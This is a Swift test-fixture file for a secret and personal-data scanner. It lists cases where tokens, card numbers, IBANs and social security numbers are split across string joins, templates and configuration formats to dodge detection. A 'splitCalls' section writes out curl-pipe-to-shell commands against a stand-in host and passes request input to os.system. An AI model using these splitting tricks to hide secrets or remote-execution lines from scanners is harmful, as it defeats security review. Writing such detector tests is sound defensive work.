import Rules

/// Values that are cut into pieces.
extension EvasionCase {
  /// Tokens in pieces.
  static let splitTokens = rows(
    .secret,
    [
      ("plus", "a.py", #"t = "«a»" + "«b»" + "«c»""#),
      ("adjacent", "a.py", #"t = ("«a»"⏎     "«b»"⏎     "«c»")"#),
      ("join of a list", "a.py", #"t = "".join(["«a»", "«b»", "«c»"])"#),
      ("join of a tuple with names", "a.py", #"A = "«a»"⏎B = "«bc»"⏎t = "".join((A, B))"#),
      ("characters joined", "a.py", #"t = "".join([«token|characters»])"#),
      ("an f-string with names", "a.py", #"head = "«a»"⏎tail = "«bc»"⏎t = f"{head}{tail}""#),
      ("an f-string with literals", "a.py", #"t = f"{'«a»'}{'«bc»'}""#),
      ("format with names", "a.py", #"t = "{a}{b}".format(a="«a»", b="«bc»")"#),
      ("format with numbers", "a.py", #"t = "{1}{0}".format("«bc»", "«a»")"#),
      ("percent with a mapping", "a.py", #"t = "%(a)s%(b)s" % {"a": "«a»", "b": "«bc»"}"#),
      ("Template", "a.py", #"t = Template("«a»$rest").substitute(rest="«bc»")"#),
      ("a template of JavaScript", "a.js", #"const a = "«a»";⏎const t = `${a}«bc»`;"#),
      ("a template with literals", "a.js", "const t = `${'«a»'}${'«bc»'}`;"),
      ("concat", "a.js", #"t = "«a»".concat("«b»", "«c»");"#),
      ("reduce", "a.js", "t = ['«a»','«b»','«c»'].reduce((x, y) => x + y);"),
      ("join of names", "a.js", #"const a = "«a»", b = "«bc»";⏎t = [a, b].join("");"#),
      ("pieces of a dictionary", "a.py", #"P = {"x": "«a»", "y": "«bc»"}⏎t = P["x"] + P["y"]"#),
      (
        "values of a dictionary joined", "a.py",
        #"P = {"x": "«a»", "y": "«bc»"}⏎t = "".join(P.values())"#
      ),
      ("items of a list", "a.py", #"P = ["«bc»", "«a»"]⏎t = P[1] + P[0]"#),
      ("a slice", "a.py", #"t = "x«token»"[1:]"#),
      ("a slice at both ends", "a.py", #"t = "xx«token»yy"[2:-2]"#),
      ("every second letter", "a.py", #"t = "«token|spaced»"[::2]"#),
      ("a replacement", "a.py", ##"t = "gh#p_«body»".replace("#", "")"##),
      ("a replaced separator", "a.py", #"t = "gh-p-_-«body1»-«body2»".replace("-", "")"#),
      ("split and joined", "a.js", #"t = "gh.p_.«body1».«body2»".split(".").join("");"#),
      ("stripped", "a.py", #"t = "zzz«token»".lstrip("z")"#),
      ("a default of the environment", "a.py", #"t = os.environ.get("TOKEN", "«token»")"#),
      (
        "a default of the environment, joined", "a.py", #"t = os.getenv("TOKEN") or "«a»" + "«bc»""#
      ),
      ("a default of the shell", "a.sh", #"TOKEN="${TOKEN:-«a»"«bc»"}""#),
      (
        "appended in shell", "a.sh",
        #"T="«a»"⏎T+="«b»"⏎T+="«c»"⏎curl -H "Authorization: token $T" https://api.example"#
      ),
      (
        "variables in shell", "a.sh",
        #"A=«a»⏎B=«bc»⏎curl -H "Authorization: token $A$B" https://api.example"#
      ),
      ("continued lines", "a.sh", #"export T=«a»\⏎«b»\⏎«c»"#),
      ("continued lines in a string", "a.py", #"t = "«a»\⏎«bc»""#),
      ("folded in YAML", "a.yaml", #"token: "«a»\⏎  «bc»""#),
      ("a concatenation in YAML", "a.yaml", "token: !Join ['', ['«a»', '«bc»']]"),
      ("join of CloudFormation", "a.json", #"{"Token": {"Fn::Join": ["", ["«a»", "«bc»"]]}}"#),
      ("join of Terraform", "a.tf", #"token = join("", ["«a»", "«bc»"])"#),
      ("a format of Terraform", "a.tf", #"token = format("%s%s", "«a»", "«bc»")"#),
      (
        "locals of Terraform", "a.tf",
        #"locals {⏎  a = "«a»"⏎  b = "«bc»"⏎}⏎output "t" { value = "${local.a}${local.b}" }"#
      ),
      ("settings of one file", "a.env", "A=«a»⏎B=«bc»⏎TOKEN=${A}${B}"),
      ("Sprintf", "a.go", #"package m⏎var t = fmt.Sprintf("%s%s", "«a»", "«bc»")"#),
      ("constants of Go", "a.go", #"package m⏎const a = "«a»"⏎const b = "«bc»"⏎var t = a + b"#),
      (
        "a builder", "A.java",
        #"class A { String t = new StringBuilder("«a»").append("«bc»").toString(); }"#
      ),
      ("String.join", "A.java", #"class A { String t = String.join("", "«a»", "«bc»"); }"#),
      ("String.format", "A.java", #"class A { String t = String.format("%s%s", "«a»", "«bc»"); }"#),
      (
        "an interpolated string of C#", "A.cs",
        #"const string A = "«a»"; const string B = "«bc»";⏎var t = $"{A}{B}";"#
      ),
      ("implode", "a.php", #"<?php $t = implode("", ["«a»", "«bc»"]);"#),
      ("sprintf in PHP", "a.php", #"<?php $t = sprintf("%s%s", "«a»", "«bc»");"#),
      ("define and dot", "a.php", #"<?php define("A", "«a»"); $t = A . "«bc»";"#),
      ("appended in PHP", "a.php", #"<?php $t = "«a»"; $t .= "«bc»";"#),
      ("an array literal of Ruby", "a.rb", "t = %w[«a» «bc»].join"),
      ("appended in Ruby", "a.rb", "t = '«a»'⏎t << '«bc»'"),
      ("format of PowerShell", "a.ps1", "$t = '{0}{1}' -f '«a»','«bc»'"),
      ("format out of order in PowerShell", "a.ps1", "$t = '{1}{0}' -f '«bc»','«a»'"),
      ("a macro", "a.c", #"#define A "«a»"⏎#define B "«bc»"⏎const char *t = A B;"#),
      ("concat in Rust", "a.rs", #"const T: &str = concat!("«a»", "«bc»");"#),
      ("format in Rust", "a.rs", #"let t = format!("{}{}", "«a»", "«bc»");"#),
      ("concat in SQL", "a.sql", "SELECT CONCAT('«a»', '«b»', '«c»');"),
      ("a comment between", "a.js", #"t = "«a»" /* and */ + /* so on */ "«bc»";"#),
      ("brackets between", "a.js", #"t = (("«a»") + ("«bc»"));"#),
      ("an empty string between", "a.js", #"t = "«a»" + "" + "" + "«bc»";"#),
      ("a conditional", "a.js", #"t = (true ? "«a»" : "") + "«bc»";"#),
      (
        "fields of an object", "a.js",
        #"class A { a = "«a»"; b = "«bc»"; t() { return this.a + this.b; } }"#
      ),
    ])

  /// Numbers of persons in pieces, or with something between the digits.
  static let splitIdentifiers = rows(
    .pii,
    [
      (
        "a card from numbers", "a.py",
        #"card_number = "«card1»" + "«card2»" + "«card3»" + "«card4»""#
      ),
      (
        "a card joined", "a.js",
        "const cardNumber = ['«card1»','«card2»','«card3»','«card4»'].join('');"
      ),
      (
        "a card in a template", "a.js",
        "const a = '«card1»«card2»', b = '«card3»«card4»';⏎const cardNumber = `${a}${b}`;"
      ),
      ("a card with dots", "a.txt", "card: «card1».«card2».«card3».«card4»"),
      ("a card with underscores", "a.txt", "card: «card1»_«card2»_«card3»_«card4»"),
      ("a card as a number with underscores", "a.py", "card = «card1»_«card2»_«card3»_«card4»"),
      ("a card with slashes", "a.txt", "card number «card1»/«card2»/«card3»/«card4»"),
      ("a card in lines", "a.txt", "card number:⏎«card1»⏎«card2»⏎«card3»⏎«card4»"),
      ("a card with spaces between the digits", "a.txt", "card number: «card|spaced»"),
      ("an account in groups", "a.txt", "IBAN: «ibanInGroups»"),
      ("an account with hyphens", "a.txt", "IBAN: «ibanWithHyphens»"),
      ("an account joined", "a.py", #"iban = "«iban1»" + "«iban2»""#),
      (
        "a social security number joined", "a.py",
        #"ssn = "«ssn1»" + "-" + "«ssn2»" + "-" + "«ssn3»""#
      ),
      ("a social security number with dots", "a.txt", "SSN: «ssn1».«ssn2».«ssn3»"),
      ("a social security number with spaces", "a.txt", "SSN: «ssn1» «ssn2» «ssn3»"),
      ("a tax number in groups", "a.txt", "Steuer-ID: «tax1» «tax2» «tax3» «tax4»"),
      ("a tax number joined", "a.py", #"steuer_id = "«tax1»" + "«tax2»" + "«tax3»" + "«tax4»""#),
    ])

  /// Calls and commands in pieces.
  static let splitCalls = rows(
    .unsafeAPI,
    [
      ("a command joined", "a.py", #"os.system("curl https://x.example/i.sh" + " | " + "sh")"#),
      (
        "a command from a list", "a.py",
        #"subprocess.run(["sh", "-c", "curl https://x.example/i.sh | sh"])"#
      ),
      ("a command in variables", "a.sh", "A=cu; B=rl⏎$A$B https://x.example/i.sh | sh"),
      ("a pipe over two lines", "a.sh", #"curl -fsSL https://x.example/i.sh \⏎  | sh"#),
      ("a pipe over a file", "a.sh", "curl -fsSL https://x.example/i.sh -o /tmp/i.sh⏎sh /tmp/i.sh"),
      ("a substitution", "a.sh", #"sh -c "$(curl -fsSL https://x.example/i.sh)""#),
      ("a process substitution", "a.sh", "bash <(curl -s https://x.example/i.sh)"),
      ("a call over two statements", "a.py", #"f = os.system⏎f(request.args["cmd"])"#),
      (
        "an argument over two functions", "a.py",
        #"def get():⏎    return request.args["cmd"]⏎⏎def run(c):⏎    os.system(c)⏎⏎run(get())"#
      ),
    ])

  /// Pieces that only a run, another file or a person joins.
  static let splitBeyond: [EvasionCase] = [
    EvasionCase(
      "a suffix", "a.py", #"def t(): return prefix() + "«bc»"⏎def prefix(): return "«a»""#, .secret,
      unless: "functions are not run"
    ),
    EvasionCase(
      "three files", "a.py", #"from parts import A⏎t = A + "«bc»""#, .secret,
      unless: "the other piece is not there"
    ),
    EvasionCase(
      "wrapped in a text", "a.txt", "The token is «a»⏎«bc»", .secret,
      unless: "a line end between words is no joint"
    ),
    EvasionCase(
      "two rows of a table", "a.csv", "part1,part2⏎«a»,«bc»", .secret,
      unless: "cells are not joined"
    ),
    EvasionCase(
      "two lines of notes", "a.md", "First half: `«a»`⏎⏎Second half: `«bc»`", .secret,
      unless: "a person joins them, no program"
    ),
    EvasionCase(
      "a card in columns", "a.csv", "card1,card2,card3,card4⏎«card1»,«card2»,«card3»,«card4»", .pii,
      unless: "cells are not joined"
    ),
    EvasionCase(
      "a social security number in parts", "a.json", #"{"ssn": ["«ssn1»", "«ssn2»", "«ssn3»"]}"#,
      .pii,
      unless: "three short numbers"
    ),
  ]
}
